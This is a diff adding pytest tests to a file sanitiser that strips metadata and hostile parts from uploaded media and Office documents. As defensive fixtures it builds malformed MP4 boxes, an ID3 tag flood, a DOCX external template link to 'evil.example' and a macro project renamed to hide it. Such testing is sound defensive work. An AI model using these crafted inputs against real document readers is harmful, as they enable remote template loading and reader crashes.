@@ -1,6 +1,7 @@
 """What a file is, is told by its content; what is shown of it carries no trace of who made it, or where."""
 
 import io
+import time
 import zipfile
 
 import pytest
@@ -149,3 +150,69 @@ def test_the_shown_sound_has_no_tags() -> None:
 
 def test_shown_text_is_in_unicode() -> None:
     assert shown_copy.strip("水渠".encode("gb18030"), "text/plain") == ("水渠".encode(), "text/plain; charset=utf-8")
+
+
+@pytest.mark.parametrize(
+    "film",
+    [
+        people.box(b"ftyp", b"isom\0\0\2\0") + b"\xff" * 100,
+        people.box(b"ftyp", b"isom\0\0\2\0")
+        + b"".join((8 * (5000 - n)).to_bytes(4, "big") + b"moov" for n in range(5000)),
+    ],
+    ids=["a box longer than its file", "boxes within boxes"],
+)
+def test_a_film_made_to_break_its_reader_is_refused_like_any_that_cannot_be_read(film: bytes) -> None:
+    with pytest.raises(Invalid) as refusal:
+        shown_copy.make(film, type_of(film))
+    assert refusal.value.fields == {"file": "file_unreadable"}
+
+
+def test_a_sound_of_nothing_but_tags_keeps_nobody_waiting() -> None:
+    tags = b"ID3\x03\0\0\0\0\0\0" * 400_000
+    begun = time.monotonic()
+    assert len(shown_copy.strip(tags, "audio/mpeg")[0]) <= 10
+    assert time.monotonic() - begun < 5
+
+
+RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
+TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+MACROS = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+
+
+def relations(kind: str, target: str, mode: str = "", encoding: str = "utf-8") -> bytes:
+    return (
+        f'<?xml version="1.0" encoding="{encoding}"?><Relationships xmlns="{RELATIONS}">'
+        f'<Relationship Id="rId1" Type="{kind}" Target="{target}"{mode}/></Relationships>'
+    ).encode(encoding)
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_the_shown_document_fetches_nothing_from_outside_when_it_is_opened(encoding: str) -> None:
+    outside = relations(TEMPLATE, "http://evil.example/t.dotm", ' TargetMode="External"', encoding)
+    inside = relations(TEMPLATE, "media/image1.jpeg")
+    parts = {"word/_rels/settings.xml.rels": outside, "word/_rels/document.xml.rels": inside}
+    copy, _ = shown_copy.strip(people.office(parts=parts), DOCX)
+    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
+        assert b"evil.example" not in archive.read("word/_rels/settings.xml.rels")
+        assert b"about:blank" in archive.read("word/_rels/settings.xml.rels")
+        assert b'Target="media/image1.jpeg"' in archive.read("word/_rels/document.xml.rels")
+
+
+def test_macros_under_another_name_are_not_taken() -> None:
+    hidden = {"word/_rels/document.xml.rels": relations(MACROS, "media/notes.bin"), "word/media/notes.bin": b"macro"}
+    with pytest.raises(Invalid) as refusal:
+        shown_copy.make(people.office(parts=hidden), DOCX)
+    assert refusal.value.fields == {"file": "file_unreadable"}
+
+
+def test_the_shown_document_does_not_name_who_commented_it() -> None:
+    known = {
+        "word/people.xml": f"<w15:person w15:author='{people.AUTHOR}' w15:userId=\"wang@qq.com\"/>".encode(),
+        "xl/comments1.xml": f"<authors><author>{people.AUTHOR}</author></authors>".encode(),
+        "xl/persons/person.xml": f'<person displayName="{people.AUTHOR}" userId="wang@qq.com"/>'.encode(),
+    }
+    copy, _ = shown_copy.strip(people.office(parts=known), DOCX)
+    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
+        everything = b"".join(archive.read(name) for name in archive.namelist())
+    assert people.AUTHOR.encode() not in everything
+    assert b"wang@qq.com" not in everything
